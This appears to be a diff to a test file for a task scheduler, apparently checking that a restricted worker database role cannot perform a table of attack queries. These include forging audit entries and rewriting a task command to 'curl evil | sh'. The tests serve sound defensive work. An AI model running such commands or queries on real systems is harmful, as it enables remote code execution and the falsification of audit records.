@@ -1,4 +1,4 @@
-import { taskDefinition } from '@escapement/core';
+import { actOf, processPrincipal, taskDefinition } from '@escapement/core';
 import { asUser, by, type DatabaseUser, testDatabase } from '@escapement/testkit';
 import pg from 'pg';
 import { afterAll, describe, expect, test } from 'vitest';
@@ -104,6 +104,10 @@ const WORKER_ATTACKS = {
   'reads the logs of others': 'SELECT text FROM run_log_chunk',
   'writes an entry of the audit with another time': `INSERT INTO audit (namespace, at, principal_kind, principal_id, principal_name, action, subject)
     VALUES ('default', ${OLD}, 'cli', 'ann', 'ann', 'x', 'y:z')`,
+  'writes an entry of the audit in the name of a person': `INSERT INTO audit (namespace, principal_kind, principal_id, principal_name, action, subject)
+    VALUES ('default', 'cli', 'ann', 'ann', 'delete', 'task:nightly')`,
+  'notes that a person was refused what workers do not refuse': `SELECT note_refusal('default',
+    '{"kind": "token", "id": "x", "name": "ann"}', 'delete', 'task:nightly', '{}')`,
   'changes a definition': `UPDATE task SET definition = jsonb_set(definition, '{handler,command}', '"curl evil | sh"')`,
   'says that a definition is of code': `UPDATE task SET source = 'code'`,
   'moves a task to its pool': `UPDATE task SET pool = 'mine'`,
@@ -112,8 +116,8 @@ const WORKER_ATTACKS = {
     VALUES ('x', '{"handler": {"type": "shell", "command": "id"}}', '{"kind": "manual"}', 'x', 1, 'skip', 'default', 'code', now())`,
   'makes a task of code in the name of people': `INSERT INTO task (name, definition, schedule, key_template, key_limit, overlap, pool, source, effective_at)
     VALUES ('x', '{"handler": {"type": "code", "name": "x"}}', '{"kind": "manual"}', 'x', 1, 'skip', 'default', 'cli', now())`,
-  'adds a version to a task': `INSERT INTO task_version (task_id, version, definition, source, created_by)
-    VALUES ('${taskId}', 99, '{"handler": {"type": "code", "name": "x"}}', 'code', 'x')`,
+  'adds a version to a task': `INSERT INTO task_version (task_id, version, definition, source, created_by, saver_kind, saver_id)
+    VALUES ('${taskId}', 99, '{"handler": {"type": "code", "name": "x"}}', 'code', 'x', 'process', 'x')`,
   'changes a version': `UPDATE task_version SET definition = '{}'`,
   'leaves a definition for a scheduler to save': `INSERT INTO task_change (namespace, name, definition, source, created_by, effective_at)
     VALUES ('default', 'nightly', '{}', 'cli', '{}', now())`,
@@ -251,7 +255,13 @@ test('a worker saves a task of its code: as new, as the next version, and over a
     const handler = type === 'code' ? { type, name: 'of-code' } : { type, command: 'true' };
     const definition = taskDefinition.parse({ name: 'of-code', handler, schedule: { kind: 'manual' } });
     return await saveTask(worker, {
-      ...{ definition, schedule: definition.schedule, keyTemplate: 'of-code', source: 'code', by: by('test') },
+      ...{
+        definition,
+        schedule: definition.schedule,
+        keyTemplate: 'of-code',
+        source: 'code',
+        by: actOf(processPrincipal('app')),
+      },
       ...{ redacted: { before: null, after: null }, expectedPlanSeq, effectiveAt: ago(0), nextRunAt: null },
     });
   };
